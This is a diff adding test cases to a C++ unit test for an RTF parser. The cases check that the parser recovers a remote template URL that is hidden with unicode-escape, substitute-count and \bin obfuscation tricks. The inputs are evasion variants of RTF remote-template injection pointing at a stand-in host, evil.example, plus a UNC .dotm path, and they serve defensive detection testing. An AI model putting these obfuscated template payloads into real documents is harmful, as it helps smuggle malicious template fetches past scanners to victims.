@@ -23,6 +23,14 @@ TEST(Rtf, TellsItsTemplate) {
         "{\\*\\template \\u104\\par ttp://evil.example/a}", "{\\*\\template ht{\\*\\zz \\bin2 }}}tp://evil.example/a}"})
     EXPECT_EQ(fetched_by(group), Strings{"http://evil.example/a"}) << group;
   EXPECT_EQ(fetched_by("{\\uc0{\\*\\template \\u104 ttp://evil.example/a}}"), Strings{"http://evil.example/a"});
+  // What a closed group said of substitutes is forgotten.
+  for (const char* group :
+       {"{\\uc9 x}{\\*\\template \\u104?ttp://evil.example/a}",
+        "{\\uc9{\\uc3 x}}{\\*\\template \\u104?ttp://evil.example/a}",
+        "{\\uc2{\\uc9 x}{\\*\\template \\u104??ttp://evil.example/a}}",
+        "{\\*\\template {\\uc9}\\u104?ttp://evil.example/a}", "\\bin4 {\\uc{\\*\\template \\u104?ttp://evil.example/a}",
+        "{\\*\\ucx9}{\\*\\template \\u104?ttp://evil.example/a}"})
+    EXPECT_EQ(fetched_by(group), Strings{"http://evil.example/a"}) << group;
   EXPECT_EQ(fetched_by("{\\*\\template \\\\\\\\server\\\\a.dotm}"), Strings{"\\\\server\\a.dotm"});
 }
 
